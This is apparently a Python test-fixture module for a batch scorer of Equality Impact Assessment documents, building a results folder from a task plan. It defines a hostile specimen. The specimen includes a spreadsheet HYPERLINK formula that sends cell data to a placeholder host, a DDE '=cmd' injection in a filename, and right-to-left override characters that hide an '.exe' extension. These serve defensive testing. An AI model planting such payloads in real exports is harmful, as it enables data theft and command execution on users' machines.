"""Folders of results with real scorecards in them, made without running a batch."""

from __future__ import annotations

import hashlib
from collections.abc import Mapping
from datetime import date
from functools import cache
from pathlib import Path

import eiascore
from eiascore.batch.model import Duplicate, Options, Outcome, PassedOver, Plan, Reference, Task
from eiascore.batch.store import Results
from eiascore.errors import EmptyDocumentError
from eiascore.report.wire import error_json, to_json
from eiascore.schema import Scorecard
from eiascore.schema.record import PolicyRecord

SPECIMENS = Path(__file__).parents[2] / "corpus" / "specimens"
FORMULA = '=HYPERLINK("https://x.invalid/?"&A1,"We consulted 40 disabled residents in May 2024 about the ramp")'
HOSTILE = f"""# @Equality Impact Assessment: ramp at the library

## =Consultation https://x.invalid/a

{FORMULA}

| Group | Impact |
|---|---|
| +Age | -We consulted 25 older people in June 2024 and they asked for a handrail; we added the handrail \u202egnp.exe |
| Disability | We met forty wheelchair users on 3 May 2024 {"longword" * 5000} |
"""


@cache
def scored(name: str) -> Scorecard:
    if name == "hostile.md":
        return eiascore.score(HOSTILE.encode(), name="=cmd|'/c calc'!A1\u202e.md", profile="england")
    return eiascore.score(SPECIMENS / name)


def key(name: str) -> str:
    return hashlib.sha256(name.encode()).hexdigest()


def task(name: str, record: PolicyRecord | None = None) -> Task:
    return Task(key(name), Reference(name, f"/documents/{name}"), key(f"content of {name}"), record or PolicyRecord())


def outcome(name: str, card: str = "") -> Outcome:
    """Return the scorecard of a specimen as the result for a name, or a failure."""
    if card:
        return Outcome(key(name), "scored", to_json(scored(card), indent=None), seconds=1.5, pages=3)
    error = EmptyDocumentError("It holds no words.", "Look at it.")
    return Outcome(key(name), "failed", error_json(name, error, indent=None), code=error.code)


CARDS: Mapping[str, str] = {
    "a/strong.docx": "strong-police-search.docx",
    "b/blank.docx": "blank-form.docx",
    "=cmd.md": "hostile.md",
}
PLAN = Plan(
    tasks=(
        task("=cmd.md"),
        task("a/strong.docx", PolicyRecord(body="Saltmere Constabulary", decided=date(2024, 5, 10), source="list.csv")),
        task("b/blank.docx"),
        task("c/empty.pdf"),
        task("d/later.pdf"),
    ),
    duplicates=(Duplicate("e/copy.docx", "a/strong.docx", key("content of a/strong.docx")),),
    passed_over=(
        PassedOver("f/locked.pdf", "unreadable_file", "It may not be opened.", "Ask who owns it.", failed=True),
        PassedOver("f/picture.png", "no_document", "A picture."),
    ),
)


def filled(folder: Path, names: tuple[str, ...] = (*CARDS, "c/empty.pdf")) -> Path:
    """Return a folder of results for the plan, with one document that is not done yet."""
    with Results.open(folder, write=True) as results:
        results.save_plan(PLAN, Options(), {"rubric": "psed-2010"})
        for name in names:
            results.put(outcome(name, CARDS.get(name, "")))
    return folder
